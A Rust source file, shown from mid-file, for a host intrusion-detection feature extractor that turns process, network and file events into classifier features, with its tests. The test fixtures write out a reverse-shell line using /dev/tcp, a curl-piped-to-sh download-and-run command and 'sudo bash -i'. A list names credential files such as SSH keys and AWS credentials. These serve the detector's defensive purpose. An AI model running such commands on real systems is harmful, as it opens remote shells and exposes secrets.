    "chattr",
    "setcap",
    "touch",
    "rm",
    "stat",
    "ls",
    "file",
    "sha256sum",
    "md5sum",
];

/// Programs that set an account's login shell (`-s`, `--shell`).
const ACCOUNT_TOOLS: &[&str] = &[
    "useradd", "adduser", "usermod", "chsh", "lchsh", "pw", "newusers",
];

/// Command line: indicators, shape and what is derived from them.
/// The name of the program the first URL of `line` fetches: its path's
/// last part, lower-cased, up to its extension or any other punctuation
/// (`LinEnum.sh` → `linenum`); empty when there is none.
pub fn fetched_program(line: &str) -> String {
    line.split(|c: char| c.is_whitespace() || c == '\'' || c == '"' || c == '(' || c == ')')
        .filter_map(|t| t.split_once("://").map(|(_, rest)| rest))
        .find_map(|rest| {
            let path = rest.split(['?', '#']).next().unwrap_or(rest);
            let (_, last) = path.split_once('/')?;
            let name = last.rsplit('/').next().unwrap_or(last);
            let name = name
                .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_'))
                .next()
                .unwrap_or(name);
            (!name.is_empty()).then(|| name.to_ascii_lowercase())
        })
        .unwrap_or_default()
}

fn command_line(v: &mut Vector, ev: &Event, who: &Subject) -> CommandLine {
    let cmd = match &ev.detail {
        Some(Detail::Exec(x)) => {
            let line = x.argv.join(" ");
            CommandLine {
                indicators: lexicon::scan_command(&line),
                shape: cmd_shape(&x.argv, &line),
                line,
            }
        }
        _ => who.known.as_ref().map_or(
            CommandLine {
                indicators: 0,
                shape: [0.0; CmdShape::LEN],
                line: String::new(),
            },
            |p| CommandLine {
                indicators: p.indicators,
                shape: p.cmd_shape,
                line: String::new(),
            },
        ),
    };
    for i in 0..INDICATORS.len() {
        v.flag(Feature::Indicator(i), cmd.has(i));
    }
    for (f, x) in CmdShape::ALL.iter().zip(cmd.shape) {
        v.set(*f, x);
    }
    v.flag(
        CmdDerived::DownloadExec,
        cmd.has(DOWNLOADER)
            && (cmd.has(PIPE_TO_SHELL) || cmd.has(CHMOD_EXEC) || cmd.has(SPAWN_SHELL)),
    );
    let (mut ip_lit, mut port_lit, mut sus_port) = (false, false, false);
    for t in tokens(&cmd.line) {
        if is_ip_literal(t) {
            ip_lit = true;
        } else if let Ok(p) = t.parse::<u32>()
            && (1024..=65535).contains(&p)
            && !COMMON_PORTS.contains(&p)
        {
            port_lit = true;
            sus_port |= SUSPICIOUS_PORTS.contains(&p);
        }
    }
    v.flag(CmdDerived::IpLiteral, ip_lit);
    v.flag(CmdDerived::PortLiteral, port_lit);
    v.flag(CmdDerived::SuspiciousPortLiteral, sus_port);
    v.flag(
        CmdDerived::SudoShell,
        (cmd.has(SUDO) || lexicon::has(who.pfam, Family::Privilege))
            && (cmd.has(SPAWN_SHELL) || cmd.has(SHELL_ESCAPE)),
    );
    cmd
}

/// Programs whose connections are their work.
const NETWORKY: [Family; 8] = [
    Family::Downloader,
    Family::NetTool,
    Family::WebServer,
    Family::Database,
    Family::PackageManager,
    Family::Compiler,
    Family::CiRunner,
    Family::Init,
];

#[allow(clippy::too_many_arguments)]
fn network(
    v: &mut Vector,
    h: &mut HostState,
    l: &Limits,
    ev: &Event,
    c: &Connect,
    who: &Subject,
    ancestors: u32,
    ctx: &mut Context,
) {
    let now = ev.ts_ns;
    let port = c.remote_port;
    ctx.port = port;
    ctx.remote = c.remote_ip.clone();
    v.set(Net::PortLog2, log2p(f64::from(port)));
    v.flag(Net::PortCommon, COMMON_PORTS.contains(&port));
    v.flag(Net::PortSuspicious, SUSPICIOUS_PORTS.contains(&port));
    v.flag(Net::PortEphemeral, port >= 32768);
    v.flag(Net::PortPrivileged, port < 1024);
    if let Ok(ip) = c.remote_ip.parse::<IpAddr>() {
        let class = AddrClass::of(ip);
        v.flag(Net::RemotePrivate, class == AddrClass::Private);
        v.flag(Net::RemoteLoopback, class == AddrClass::Loopback);
        v.flag(Net::RemotePublic, class == AddrClass::Public);
        v.flag(Net::Ipv6, ip.is_ipv6());
    }
    let port_seen = h.ports.get(&port).map_or(0, |s| s.count);
    let rkey = fnv(&[c.remote_ip.as_bytes()]);
    let remote_seen = h.remotes.get(&rkey).map_or(0, |s| s.count);
    v.flag(Net::PortFirstSeen, port_seen == 0);
    v.flag(Net::RemoteFirstSeen, remote_seen == 0);
    v.set(Net::PortSeenLog2, log2p(f64::from(port_seen)));
    v.set(Net::RemoteSeenLog2, log2p(f64::from(remote_seen)));
    v.flag(Net::ByShellOrInterpreter, who.shellish());
    v.flag(
        Net::ByNonNetworkProgram,
        !who.comm.is_empty() && !NETWORKY.iter().any(|f| lexicon::has(who.fam, *f)),
    );
    v.flag(
        Net::ByWebDescendant,
        lexicon::has(ancestors, Family::WebServer) && !lexicon::has(who.fam, Family::WebServer),
    );
    bump(&mut h.ports, port, now);
    bump_u64(&mut h.remotes, rkey, now);
    h.connects.push(now, l.window);
    if let Some(p) = h.procs.get(&ev.pid).cloned() {
        h.procs.insert(
            ev.pid,
            Proc {
                connected: true,
                ..p
            },
        );
    }
}

fn temporal(v: &mut Vector, h: &HostState, now: u64, program: u64, who: &Subject) {
    v.set(Temporal::Execs1s, h.execs.count(now, SEC) as f32);
    v.set(Temporal::Execs10s, h.execs.count(now, 10 * SEC) as f32);
    v.set(Temporal::Execs60s, h.execs.count(now, 60 * SEC) as f32);
    v.set(
        Temporal::Connects60s,
        h.connects.count(now, 60 * SEC) as f32,
    );
    v.set(Temporal::Writes60s, h.writes.count(now, 60 * SEC) as f32);
    v.set(
        Temporal::SensitiveReads60s,
        h.sensitive.count(now, 60 * SEC) as f32,
    );
    let prog = h.programs.get(&program).copied();
    v.flag(Temporal::ProgramFirstSeen, prog.is_none());
    v.set(
        Temporal::ProgramIdleLog2s,
        prog.map_or(40.0, |s| {
            log2p(now.saturating_sub(s.last_ns) as f64 / SEC as f64)
        }),
    );
    v.set(
        Temporal::ParentAgeLog2s,
        who.parent.as_ref().map_or(-1.0, |p| {
            log2p(now.saturating_sub(p.start_ns) as f64 / SEC as f64)
        }),
    );
    v.set(
        Temporal::Siblings10s,
        h.children
            .get(&who.ppid)
            .map_or(0.0, |w| w.count(now, 10 * SEC) as f32),
    );
}

/// Files whose reading is credential access.
const CREDENTIALS: &[&str] = &[
    ".aws/credentials",
    ".kube/config",
    ".pgpass",
    ".netrc",
    ".git-credentials",
    ".docker/config.json",
    "id_rsa",
    "id_ed25519",
    "id_ecdsa",
    ".gnupg/",
    "/etc/ssl/private",
];

const BIN_DIRS: &[&str] = &[
    "/bin/",
    "/sbin/",
    "/usr/bin/",
    "/usr/sbin/",
    "/usr/local/bin/",
    "/usr/lib/",
    "/lib/",
];

fn file(v: &mut Vector, h: &mut HostState, l: &Limits, o: &Open, now: u64, ctx: &mut Context) {
    let p = o.path.as_str();
    ctx.path = p.to_string();
    let write = OpenMode::of(o.flags).writes();
    v.flag(File::Write, write);
    v.flag(File::Create, o.flags & oflags::O_CREAT != 0);
    v.flag(File::Etc, p.starts_with("/etc/"));
    v.flag(
        File::Cron,
        p.contains("cron") || p.starts_with("/var/spool/at"),
    );
    v.flag(File::BinDir, BIN_DIRS.iter().any(|d| p.starts_with(d)));
    v.flag(
        File::AuthorizedKeys,
        p.ends_with("authorized_keys") || p.ends_with("authorized_keys2"),
    );
    v.flag(File::SshDir, p.contains("/.ssh/"));
    v.flag(
        File::Shadow,
        p.starts_with("/etc/shadow") || p.starts_with("/etc/gshadow"),
    );
    v.flag(File::Passwd, p == "/etc/passwd" || p == "/etc/group");
    v.flag(File::Sudoers, p.starts_with("/etc/sudoers"));
    v.flag(
        File::Systemd,
        p.contains("/systemd/") || p.starts_with("/etc/init.d"),
    );
    v.flag(File::Tmp, in_tmp(p));
    v.flag(File::Hidden, p.contains("/."));
    v.flag(File::LdPreload, p.starts_with("/etc/ld.so"));
    v.flag(File::Proc, p.starts_with("/proc/"));
    v.flag(File::VarLog, p.starts_with("/var/log/"));
    v.flag(
        File::BootModules,
        p.starts_with("/boot/") || p.starts_with("/lib/modules"),
    );
    v.flag(
        File::Profile,
        p.ends_with(".bashrc")
            || p.ends_with(".profile")
            || p.ends_with(".bash_profile")
            || p.ends_with(".zshrc")
            || p.starts_with("/etc/profile"),
    );
    let cred = CREDENTIALS.iter().any(|c| p.contains(c));
    v.flag(File::Credentials, cred);
    v.flag(
        File::WebRoot,
        p.starts_with("/var/www") || p.starts_with("/srv/www"),
    );
    let dir = p.rsplit_once('/').map_or(p, |(d, _)| d);
    let dkey = fnv(&[dir.as_bytes()]);
    if write {
        v.flag(File::DirFirstWrite, h.write_dirs.get(&dkey).is_none());
        bump_u64(&mut h.write_dirs, dkey, now);
        h.writes.push(now, l.window);
    }
    if !write && (cred || v.get(File::Shadow) > 0.0 || v.get(File::Sudoers) > 0.0) {
        h.sensitive.push(now, l.window);
    }
}

fn bump(map: &mut TwoGen<u32, Seen>, k: u32, now: u64) {
    let s = map.entry(k, Seen::default);
    s.count = s.count.saturating_add(1);
    s.last_ns = now;
}

fn bump_u64(map: &mut TwoGen<u64, Seen>, k: u64, now: u64) {
    let s = map.entry(k, Seen::default);
    s.count = s.count.saturating_add(1);
    s.last_ns = now;
}

#[cfg(test)]
mod tests {
    use super::*;
    use outlier_proto::v1::{Connect, Exec, Open};

    fn exec(
        pid: u32,
        ppid: u32,
        comm: &str,
        parent: &str,
        uid: u32,
        argv: &[&str],
        ts: u64,
    ) -> Event {
        Event {
            org: "o".into(),
            workload: "w".into(),
            host: "h".into(),
            ts_ns: ts,
            pid,
            ppid,
            uid,
            comm: comm.into(),
            parent_comm: parent.into(),
            exe: format!("/usr/bin/{comm}"),
            detail: Some(Detail::Exec(Exec {
                argv: argv.iter().map(|s| s.to_string()).collect(),
                ..Exec::default()
            })),
            ..Event::default()
        }
    }

    fn get(f: &Features, name: &str) -> f32 {
        let i = names()
            .iter()
            .position(|n| n == name)
            .unwrap_or_else(|| panic!("{name}"));
        f.values[i]
    }

    /// A fixture: an event and the features it is written to show.
    struct Step(Event, Vec<Feature>);

    fn at_t(mut e: Event, t: u64) -> Event {
        e.ts_ns = t;
        e
    }

    fn with(mut e: Event, exe: &str, cwd: &str, gid: u32) -> Event {
        e.exe = exe.into();
        e.gid = gid;
        if let Some(Detail::Exec(x)) = &mut e.detail {
            x.cwd = cwd.into();
        }
        e
    }

    fn connect(pid: u32, comm: &str, ip: &str, port: u32) -> Event {
        Event {
            org: "o".into(),
            workload: "w".into(),
            host: "h".into(),
            pid,
            comm: comm.into(),
            detail: Some(Detail::Connect(Connect {
                remote_ip: ip.into(),
                remote_port: port,
                ..Connect::default()
            })),
            ..Event::default()
        }
    }

    fn open_file(path: &str, flags: u32) -> Event {
        Event {
            org: "o".into(),
            workload: "w".into(),
            host: "h".into(),
            pid: 900,
            comm: "tee".into(),
            detail: Some(Detail::Open(Open {
                path: path.into(),
                flags,
                ..Open::default()
            })),
            ..Event::default()
        }
    }

    /// Events written to show every feature, in the order one host sees them.
    fn fixtures() -> Vec<Step> {
        use Feature as F;
        let sh = |pid, ppid, parent: &str, uid, line: &str| {
            exec(pid, ppid, "sh", parent, uid, &["sh", "-c", line], 0)
        };
        let mut steps = vec![
            Step(
                exec(100, 1, "nginx", "systemd", 0, &["nginx"], 0),
                vec![
                    Head::KindExec.into(),
                    Head::UidRoot.into(),
                    Temporal::ProgramFirstSeen.into(),
                    Placement::CommLen.into(),
                    Ancestry::Depth.into(),
                ],
            ),
            Step(
                exec(101, 100, "sh", "nginx", 33, &["sh", "-c", "id"], 0),
                vec![
                    Head::UidService.into(),
                    Head::UidDiffersFromParent.into(),
                    Ancestry::WebServer.into(),
                    Ancestry::ShellUnderService.into(),
                    Temporal::ParentAgeLog2s.into(),
                    Temporal::Execs1s.into(),
                    Temporal::Execs10s.into(),
                    Temporal::Execs60s.into(),
                ],
            ),
            Step(
                exec(102, 101, "bash", "sh", 33, &["bash", "-i"], 0),
                vec![Ancestry::Shells.into()],
            ),
            Step(
                exec(103, 101, "id", "sh", 33, &["id"], 0),
                vec![Temporal::Siblings10s.into()],
            ),
            Step(
                connect(102, "bash", "203.0.113.7", 4444),
                vec![
                    Head::KindConnect.into(),
                    Net::PortLog2.into(),
                    Net::PortSuspicious.into(),
                    Net::RemotePublic.into(),
                    Net::PortFirstSeen.into(),
                    Net::RemoteFirstSeen.into(),
                    Net::ByShellOrInterpreter.into(),
                    Net::ByWebDescendant.into(),
                    Temporal::Connects60s.into(),
                ],
            ),
            Step(
                connect(102, "bash", "203.0.113.7", 4444),
                vec![Net::PortSeenLog2.into(), Net::RemoteSeenLog2.into()],
            ),
            Step(
                exec(200, 10, "cat", "sshd", 1000, &["cat"], 0),
                vec![Head::UidUser.into(), Ancestry::Sshd.into()],
            ),
            Step(
                connect(200, "cat", "10.0.0.1", 443),
                vec![
                    Net::ByNonNetworkProgram.into(),
                    Net::RemotePrivate.into(),
                    Net::PortCommon.into(),
                    Net::PortPrivileged.into(),
                ],
            ),
            Step(
                connect(200, "cat", "127.0.0.1", 40000),
                vec![Net::RemoteLoopback.into(), Net::PortEphemeral.into()],
            ),
            Step(
                connect(200, "cat", "2001:db8::1", 443),
                vec![Net::Ipv6.into()],
            ),
            Step(
                exec(201, 200, "su", "cat", 0, &["su"], 0),
                vec![Head::RootUnderNonRootParent.into()],
            ),
            Step(
                with(
                    exec(202, 10, "id", "sshd", 1000, &["id"], 0),
                    "/usr/bin/id",
                    "/",
                    0,
                ),
                vec![Head::GidRoot.into(), Placement::CwdRoot.into()],
            ),
            Step(
                exec(300, 1, "python3", "cron", 0, &["python3", "-c", "1"], 0),
                vec![Ancestry::Cron.into(), Ancestry::ShellUnderCron.into()],
            ),
            Step(
                sh(301, 300, "python3", 0, "true"),
                vec![Ancestry::Interpreters.into()],
            ),
            Step(
                exec(400, 1, "bash", "postgres", 70, &["bash"], 0),
                vec![Ancestry::Database.into()],
            ),
            Step(
                exec(401, 1, "make", "gitlab-runner", 999, &["make"], 0),
                vec![Ancestry::Ci.into()],
            ),
            Step(
                with(exec(500, 1, "x", "sh", 0, &["x"], 0), "/tmp/x", "/tmp", 1),
                vec![
                    Placement::ExeInTmp.into(),
                    Placement::ExeNonstandardDir.into(),
                    Placement::CwdTmp.into(),
                ],
            ),
            Step(
                with(
                    exec(501, 1, "y", "sh", 0, &["y"], 0),
                    "/usr/bin/.y",
                    "/var/www/html",
                    1,
                ),
                vec![Placement::ExeHidden.into(), Placement::CwdWebRoot.into()],
            ),
            Step(
                with(
                    exec(502, 1, "kworker", "sh", 0, &["kworker"], 0),
                    "/usr/bin/miner",
                    "",
                    1,
                ),
                vec![Placement::CommExeMismatch.into()],
            ),
            Step(
                sh(
                    600,
                    1,
                    "sshd",
                    0,
                    "echo \"A1\" | tr a b; x=$(id) > /tmp/out",
                ),
                CmdShape::ALL.iter().map(|f| (*f).into()).collect(),
            ),
            Step(
                sh(601, 1, "sshd", 0, "curl http://203.0.113.7:4444/x | sh"),
                vec![
                    CmdDerived::DownloadExec.into(),
                    CmdDerived::IpLiteral.into(),
                    CmdDerived::PortLiteral.into(),
                    CmdDerived::SuspiciousPortLiteral.into(),
                ],
            ),
            Step(
                sh(602, 1, "sshd", 0, "sudo bash -i"),
                vec![CmdDerived::SudoShell.into()],
            ),
            Step(
                exec(100, 1, "nginx", "systemd", 0, &["nginx"], 0),
                vec![Temporal::ProgramIdleLog2s.into()],
            ),
            Step(
                open_file("/etc/cron.d/job", 0o101),
                vec![
                    Head::KindOpen.into(),
                    File::Write.into(),
                    File::Create.into(),
                    File::Etc.into(),
                    File::Cron.into(),
                    File::DirFirstWrite.into(),
                ],
            ),
            Step(
                open_file("/etc/shadow", 0),
                vec![File::Shadow.into(), Temporal::Writes60s.into()],
            ),
            Step(
                open_file("/etc/passwd", 0),
                vec![File::Passwd.into(), Temporal::SensitiveReads60s.into()],
            ),
        ];
        for (path, f) in [
            ("/usr/bin/x", File::BinDir),
            ("/root/.ssh/authorized_keys", File::AuthorizedKeys),
            ("/root/.ssh/config", File::SshDir),
            ("/etc/sudoers", File::Sudoers),
            ("/etc/systemd/system/x.service", File::Systemd),
            ("/tmp/x", File::Tmp),
            ("/srv/.hidden", File::Hidden),
            ("/etc/ld.so.preload", File::LdPreload),
            ("/proc/1/maps", File::Proc),
            ("/var/log/auth.log", File::VarLog),
            ("/boot/vmlinuz", File::BootModules),
            ("/root/.bashrc", File::Profile),
            ("/root/.aws/credentials", File::Credentials),
            ("/var/www/html/x.php", File::WebRoot),
        ] {
            steps.push(Step(open_file(path, 0), vec![f.into()]));
        }
        for (i, ind) in INDICATORS.iter().enumerate() {
            steps.push(Step(
                sh(700 + i as u32, 1, "sshd", 0, ind.patterns[0]),
                vec![F::Indicator(i)],
            ));
        }
        for f in FAMILIES {
            let program = match f {
                Family::Shell => "bash",
                Family::Interpreter => "python",
                Family::Downloader => "curl",
                Family::NetTool => "nc",
                Family::EditorPager => "vim",
                Family::AdminTool => "systemctl",
                Family::Recon => "whoami",
                Family::Encoder => "xxd",
                Family::Archiver => "tar",
                Family::Compiler => "gcc",
                Family::PackageManager => "apt",
                Family::WebServer => "nginx",
                Family::Database => "postgres",
                Family::Cron => "cron",
                Family::Sshd => "sshd",
                Family::CiRunner => "gitlab-runner",
                Family::Init => "systemd",
                Family::Privilege => "sudo",
            };
            steps.push(Step(
                exec(800 + f as u32, 1, program, program, 0, &[program], 0),
                vec![F::ProcFamily(f), F::ParentFamily(f)],
            ));
        }
        steps
    }

    #[test]
    fn every_feature_holds_what_its_name_says_on_some_fixture() {
        let mut x = Extractor::default();
        let mut shown = [false; N_FEATURES];
        for (i, Step(ev, expect)) in fixtures().into_iter().enumerate() {
            // One event every 100 ms: windows of a second see several.
            let ev = at_t(ev, 1_000 * SEC + i as u64 * SEC / 10);
            let f = x.observe(&ev);
            for want in expect {
                assert!(
                    f.values[want.slot()] > 0.0,
                    "fixture {i} ({ev:?}) does not show {} (value {})",
                    want.name(),
                    f.values[want.slot()]
                );
                shown[want.slot()] = true;
            }
        }
        let missing: Vec<&str> = (0..N_FEATURES)
            .filter(|&s| !shown[s])
            .map(|s| names()[s].as_str())
            .collect();
        assert!(missing.is_empty(), "no fixture shows {missing:?}");
    }

    #[test]
    fn slots_and_names_round_trip() {
        for s in 0..N_FEATURES {
            let f = Feature::at(s).unwrap();
            assert_eq!(f.slot(), s);
            assert_eq!(f.name(), names()[s]);
        }
        assert_eq!(Feature::at(N_FEATURES), None);
        assert_eq!(names()[File::Shadow.slot()], "file_shadow");
        assert_eq!(names()[at::IND], INDICATORS[0].name);
    }

    #[test]
    fn the_shipped_model_was_trained_on_these_features() {
        let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../models/classifier.json");
        let text = std::fs::read_to_string(path).unwrap();
        let m = crate::Model::from_json(&text).unwrap();
        assert_eq!(m.meta.feature_names, names());
        crate::load_checked(&text).unwrap();
    }

    #[test]
    fn there_are_over_a_hundred_uniquely_named_features() {
        const { assert!(N_FEATURES > 100) };
        let mut n = names().to_vec();
        n.sort();
        n.dedup();
        assert_eq!(n.len(), N_FEATURES);
    }

    #[test]
    fn shell_under_web_server_through_the_process_table() {
        let mut x = Extractor::default();
        let t = 1_000 * SEC;
        x.observe(&exec(
            100,
            1,
            "php-fpm8.2",
            "systemd",
            33,
            &["php-fpm: pool www"],
            t,
        ));
        let f = x.observe(&exec(
            200,
            100,
            "sh",
            "php-fpm8.2",
            33,
            &["sh", "-c", "id"],
            t + SEC,
        ));
        assert_eq!(get(&f, "shell_under_service"), 1.0);
        assert_eq!(get(&f, "ancestry_depth"), 2.0);
        assert_eq!(f.context.service_ancestor, "php-fpm8.2");
        // Grandchild: the web server is two levels up, known only from the table.
        let f = x.observe(&exec(
            300,
            200,
            "bash",
            "sh",
            33,
            &["bash", "-i"],
            t + 2 * SEC,
        ));
        assert_eq!(get(&f, "ancestor_webserver"), 1.0);
        assert_eq!(get(&f, "shells_in_chain"), 1.0);
        assert_eq!(get(&f, "ancestry_depth"), 3.0);
        // The same shell under sshd is not under a service.
        let f = x.observe(&exec(400, 10, "bash", "sshd", 1000, &["-bash"], t));
        assert_eq!(get(&f, "shell_under_service"), 0.0);
        assert_eq!(get(&f, "ancestor_sshd"), 1.0);
    }

    #[test]
    fn served_by_trusts_only_recent_parents_named_as_the_child_says() {
        let mut x = Extractor::default();
        let t = 1_000 * SEC;
        // The server an exec of `comm` (pid, parent pid and name) at `ts`
        // runs under.
        let mut served = |pid: u32, ppid: u32, comm: &str, parent: &str, ts: u64| {
            x.observe(&exec(pid, ppid, comm, parent, 33, &[comm], ts))
                .context
                .served_by
        };
        assert_eq!(served(100, 1, "php-fpm8.2", "systemd", t), "");
        // A web request's shell: its children and grandchildren are served.
        assert_eq!(served(200, 100, "sh", "php-fpm8.2", t), "php-fpm8.2");
        assert_eq!(served(300, 200, "cat", "sh", t + SEC), "php-fpm8.2");
        assert_eq!(served(301, 300, "id", "cat", t + 2 * SEC), "php-fpm8.2");
        // Pid 200 again, minutes on: a forked shell the collector saw no
        // exec of (a deploy script's) is not the web request's.
        let later = t + SERVED_BY_FRESH_NS + SEC;
        assert_eq!(served(400, 200, "deploy", "sh", later), "");
        // Nor is an entry of another name than the child's record gives.
        assert_eq!(served(500, 300, "git", "bash", t + 3 * SEC), "");
        // A database's children are served too; a shell under sshd is not.
        assert_eq!(served(600, 50, "sh", "postgres", t), "postgres");
        assert_eq!(served(700, 10, "bash", "sshd", t), "");
        // A server's own events are its parent's lineage, not its tree's;
        // a JVM is not taken for a web server.
        assert_eq!(served(800, 100, "php-fpm8.2", "php-fpm8.2", t), "");
        assert_eq!(served(900, 60, "git", "java", t), "");
        // A long-running child's later events stay in the tree: it was
        // started right after its parent, however long ago.
        assert_eq!(served(1000, 200, "python3", "sh", t), "php-fpm8.2");
        let mut c = exec(1000, 200, "python3", "sh", 33, &[], t + 3_600 * SEC);
        c.detail = Some(Detail::Connect(outlier_proto::Connect {
            remote_ip: "203.0.113.9".into(),
            remote_port: 4444,
            ..Default::default()
        }));
        assert_eq!(x.observe(&c).context.served_by, "php-fpm8.2");
        // A server's process reported with a stale executable (another
        // program's, of the pid before it) is still the server's own.
        let mut stale_exe = exec(801, 100, "php-fpm8.2", "php-fpm8.2", 33, &[], t);
        stale_exe.exe = "/usr/bin/awk".into();
        stale_exe.detail = Some(Detail::Open(outlier_proto::Open {
            path: "/srv/app/index.php".into(),
            ..Default::default()
        }));
        assert_eq!(stale_exe.program_name(), "awk");
        assert_eq!(x.observe(&stale_exe).context.served_by, "");
    }

    #[test]
    fn connect_inherits_its_process_command_line_and_tracks_first_seen() {
        let mut x = Extractor::default();
        let t = 1_000 * SEC;
        x.observe(&exec(
            500,
            1,
            "bash",
            "nginx",
            33,
            &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
            t,
        ));
        let conn = |port: u32| Event {
            org: "o".into(),
            workload: "w".into(),
            host: "h".into(),
            ts_ns: t + SEC,
            pid: 500,
            comm: "bash".into(),
            detail: Some(Detail::Connect(Connect {
                remote_ip: "203.0.113.7".into(),
                remote_port: port,
                ..Connect::default()
            })),
            ..Event::default()
        };
        let f = x.observe(&conn(4444));
        assert_eq!(get(&f, "cmd_dev_tcp"), 1.0);
        assert_eq!(get(&f, "net_port_suspicious"), 1.0);
        assert_eq!(get(&f, "net_port_first_seen"), 1.0);
        assert_eq!(get(&f, "net_remote_public"), 1.0);
        assert_eq!(get(&f, "net_by_shell_or_interpreter"), 1.0);
        assert_eq!(
            get(&f, "cmd_suspicious_port_literal"),
            0.0,
            "derived from exec only"
        );
        let f = x.observe(&conn(4444));
        assert_eq!(get(&f, "net_port_first_seen"), 0.0);
        assert_eq!(get(&f, "net_port_seen_log2"), 1.0);
        assert_eq!(f.context.port, 4444);
    }

    #[test]
    fn file_writes_and_sensitive_reads() {
        let mut x = Extractor::default();
        let open = |path: &str, flags: u32, ts: u64| Event {
            host: "h".into(),
            ts_ns: ts,
            pid: 7,
            comm: "tee".into(),
            detail: Some(Detail::Open(Open {
                path: path.into(),
                flags,
                ..Open::default()
            })),
            ..Event::default()
        };
        let f = x.observe(&open("/root/.ssh/authorized_keys", 0o1101, SEC));
        assert_eq!(get(&f, "file_write"), 1.0);
        assert_eq!(get(&f, "file_authorized_keys"), 1.0);
        assert_eq!(get(&f, "file_dir_first_write"), 1.0);
        let f = x.observe(&open("/etc/shadow", 0, 2 * SEC));
        assert_eq!(get(&f, "file_write"), 0.0);
        assert_eq!(get(&f, "file_shadow"), 1.0);
        assert_eq!(get(&f, "writes_60s"), 1.0);
        let f = x.observe(&open("/etc/gshadow", 0, 3 * SEC));
        assert_eq!(get(&f, "sensitive_reads_60s"), 1.0);
    }

    #[test]
    fn state_stays_bounded_under_many_hosts_and_pids() {
        let limits = Limits {
            hosts: 64,
            hosts_per_org: 64,
            procs: 32,
            seen: 32,
            window: 32,
        };
        let mut x = Extractor::new(limits);
        for i in 0..20_000u32 {
            let mut e = exec(
                i,
                i / 2,
                "bash",
                "sshd",
                0,
                &["bash", "-c", "echo hi"],
                u64::from(i) * SEC,
            );
            e.host = format!("h{}", i % 500);
            x.observe(&e);
        }
        assert!(x.hosts() <= 128);
        assert!(x.approx_bytes() < 128 * 64 * 1024, "{}", x.approx_bytes());
    }
}
